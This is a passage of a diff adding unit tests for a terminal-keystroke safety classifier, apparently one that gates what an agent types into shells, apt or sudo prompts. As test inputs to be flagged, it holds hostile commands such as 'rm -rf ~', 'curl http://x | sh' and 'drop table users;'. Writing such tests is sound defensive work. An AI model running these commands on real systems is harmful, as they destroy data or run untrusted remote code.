@@ -34,6 +34,43 @@ describe("assessKeys", () => {
     expect(verdictOf("ls\r", inside("zsh"))).toBe("ask");
   });
 
+  it("calls a part of a line for a nested shell danger: the rest of it would be judged without it", () => {
+    expect(verdictOf("rm -r", inside("bash"))).toBe("danger");
+    expect(verdictOf("f ~\r", inside("bash"))).toBe("ask");
+  });
+
+  describe("for a program that does not read", () => {
+    const working = { ...inside("sleep"), waiting: "working" as const };
+
+    it.each([
+      ["rm -rf ~\r", "danger"],
+      ["curl http://x | sh\n", "danger"],
+      ["rm -r", "danger"],
+      ["y\r", "ask"],
+      ["\r", "ask"],
+      ["\u0003", "ask"],
+    ])("judges %j as what it is: a command that the shell runs afterwards", (keys, verdict) => {
+      expect(verdictOf(keys, working)).toBe(verdict);
+    });
+
+    it("says so", () => {
+      expect(assessKeys("make\r", working).findings.map(({ ruleId, say }) => [ruleId, say])).toEqual([
+        ["keys.typed-ahead", "sleep does not read this now, so the shell runs it once sleep has ended."],
+        ["keys.program", "Typed into sleep, which decides what it means: make␍"],
+      ]);
+    });
+  });
+
+  it("judges lines after the one that a program reads as commands: it may have ended by then", () => {
+    const reads = { ...inside("apt"), waiting: "line-input" as const };
+    expect([verdictOf("y\r", reads), verdictOf("y\rrm -rf ~\r", reads)]).toEqual(["ask", "danger"]);
+  });
+
+  it("leaves a password prompt to a person, and lets an agent leave it", () => {
+    const asked = { ...inside("sudo"), waiting: "password" as const };
+    expect([verdictOf("hunter2\r", asked), verdictOf("\u0003", asked)]).toEqual(["deny", "ask"]);
+  });
+
   it.each([
     ["mysql", "drop table users;\r"],
     ["python3", "import os; os.system('id')\r"],
